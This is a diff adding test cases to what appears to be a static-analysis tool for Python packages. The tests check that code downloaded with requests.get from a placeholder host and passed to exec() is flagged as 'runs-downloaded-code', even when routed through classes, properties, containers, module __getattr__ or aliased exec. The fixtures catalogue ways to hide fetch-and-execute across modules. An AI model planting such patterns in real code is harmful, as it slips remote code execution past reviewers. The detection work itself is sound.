@@ -418,3 +418,75 @@ def test_a_program_that_is_started_with_m_waits_unless_it_is_imported(
     files = {"sample/__init__.py": init, "sample/__main__.py": main}
 
     assert rules(tmp_path, files, "sample/__main__.py") == found
+
+
+GET = "requests.get('https://a.example/x').text"
+
+
+@pytest.mark.parametrize(
+    ("main", "other"),
+    [
+        ("import sample.b\nexec(sample.b.R.t)", f"class R:\n    t = {GET}"),
+        ("import sample.b\nexec(sample.b.R.t)", f"class R:\n    t: str = {GET}"),
+        ("from .b import R\nexec(R().t)", f"class R:\n    def __init__(self):\n        self.t = {GET}"),
+        ("from .b import R\nr = R()\nexec(r.t)", f"class A:\n    def __init__(self):\n        self.t, self.x = {GET}, 1\nclass R(A): pass"),
+        ("from .b import r\nexec(r.t)", f"class R:\n    def __init__(self):\n        self.t = {GET}\nr = R()"),
+        ("from .b import R\nexec(R().t)", f"class R:\n    @property\n    def t(self):\n        return {GET}"),
+        ("from .b import R\nexec(R().t)", f"class R:\n    @property\n    def t(self):\n        return self.u()\n    def u(self):\n        return {GET}"),
+        ("from .b import R\nexec(R().t())", f"class R:\n    def t(self):\n        return {GET}"),
+        ("from .b import R\nexec(R.t())", f"class R:\n    @staticmethod\n    def t():\n        return {GET}"),
+        ("from .b import R\nfor t in R():\n    exec(t)", f"class R:\n    def __iter__(self):\n        yield {GET}"),
+        ("from .b import R\nexec(next(R()))", f"class R:\n    def __next__(self):\n        return {GET}"),
+        ("from .b import R\nexec(R()['x'])", f"class R:\n    def __getitem__(self, x):\n        return {GET}"),
+        ("from .b import R\nexec(str(R()))", f"class R:\n    def __str__(self):\n        return {GET}"),
+        ("from .b import R\nexec(R()())", f"class R:\n    def __call__(self):\n        return {GET}"),
+        ("from .b import R\nexec(R().x)", f"class R:\n    def __getattr__(self, x):\n        return {GET}"),
+        ("from .b import g\nfor t in g():\n    exec(t)", f"def g():\n    yield {GET}"),
+        ("from .b import L\nexec(L[0])", f"L = []\nL.append({GET})"),
+        ("from .b import L\nexec(''.join(L))", f"L = []\ndef f():\n    L.extend([{GET}])\nf()"),
+        ("from .b import L\nexec(L['a'])", f"L = {{}}\nL['a'] = {GET}"),
+        ("from . import b\nexec(b.L['a'])", f"L = {{}}\nL.update(a={GET})"),
+        ("from .b import zz\nexec(zz)", f"def __getattr__(name):\n    return {GET}"),
+        ("from . import b\nexec(b.zz)", f"def __getattr__(name):\n    return {GET}"),
+        ("from .c import L\nexec(L[0])", f"L = []\nL.append({GET})"),
+        ("from .c import R\nexec(R().t)", f"class R:\n    def __init__(self):\n        self.t = {GET}"),
+        (f"from .b import r\nr({GET})", "r = exec"),
+        (f"from .b import r as x\nx({GET})", "import builtins\nr = builtins.exec"),
+        (f"from . import b\nb.r({GET})", "q = exec\nr = q"),
+        (f"from .c import r\nr({GET})", "r = exec"),
+        (f"from .b import R\nR.r({GET})", "class R:\n    r = exec"),
+        (f"from .b import r\nr({GET})", "from builtins import exec as r"),
+        (f"from .b import D\nD['r']({GET})", "D = {'r': exec}"),
+    ],
+)  # fmt: skip
+def test_what_another_module_gives_in_any_form_is_followed(
+    tmp_path: Path, main: str, other: str
+) -> None:
+    files = {
+        "sample/__init__.py": f"import requests\n{main}\n",
+        "sample/b.py": f"import requests\n{other}\n",
+        "sample/c.py": "from .b import L, R, r\n",
+    }
+
+    assert "runs-downloaded-code" in rules(tmp_path, files, "sample/__init__.py")
+
+
+@pytest.mark.parametrize(
+    ("main", "other"),
+    [
+        ("from .b import R\nexec(R().u)", f"class R:\n    u = 'x = 1'\n    def t(self):\n        return {GET}"),
+        ("from .b import R\nexec(R.u)", f"class R:\n    u = 'x = 1'\nclass Q:\n    u = {GET}"),
+        ("from .b import u\nexec(u)", f"u = 'x = 1'\ndef __getattr__(name):\n    return {GET}"),
+        ("from .b import L\nexec(L[0])", f"L = ['x = 1']\nM = []\nM.append({GET})"),
+        (f"from .b import r\nr({GET})", "r = print"),
+    ],
+)  # fmt: skip
+def test_what_another_module_has_besides_is_no_part_of_what_it_gives(
+    tmp_path: Path, main: str, other: str
+) -> None:
+    files = {
+        "sample/__init__.py": f"import requests\n{main}\n",
+        "sample/b.py": f"import requests\n{other}\n",
+    }
+
+    assert "runs-downloaded-code" not in rules(tmp_path, files, "sample/__init__.py")
